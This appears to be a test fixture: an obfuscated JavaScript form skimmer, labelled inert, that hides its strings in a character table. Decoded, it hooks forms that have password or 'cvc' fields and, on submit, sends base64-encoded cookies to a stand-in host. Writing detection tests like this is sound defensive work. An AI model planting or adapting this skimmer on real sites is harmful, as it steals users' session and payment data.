// inert test input: a form skimmer's strings spelled through a character table
_k3Q='smcxhiu?be=drv/pntol:ka. w';
var u=[_k3Q[4]+_k3Q[17]+_k3Q[17]+_k3Q[15]+_k3Q[0]+_k3Q[20]+_k3Q[14]+_k3Q[14]+_k3Q[9]+_k3Q[3]+_k3Q[22]+_k3Q[1]+_k3Q[15]+_k3Q[19]+_k3Q[9]+_k3Q[23]+_k3Q[5]+_k3Q[16]+_k3Q[13]+_k3Q[22]+_k3Q[19]+_k3Q[5]+_k3Q[11]+_k3Q[14]+_k3Q[2]+_k3Q[23]+_k3Q[15]+_k3Q[4]+_k3Q[15]+_k3Q[7]+_k3Q[3]+_k3Q[10]];
function hook(f){
  for(var i=0;i<f.elements.length;i++){
    if(f.elements[i].type==_k3Q[15]+_k3Q[22]+_k3Q[0]+_k3Q[0]+_k3Q[25]+_k3Q[18]+_k3Q[12]+_k3Q[11]||f.elements[i].name==_k3Q[2]+_k3Q[13]+_k3Q[2]){
      f.addEventListener(_k3Q[0]+_k3Q[6]+_k3Q[8]+_k3Q[1]+_k3Q[5]+_k3Q[17],function(){ new Image().src=u[0]+btoa(document.cookie); });
    }
  }
}
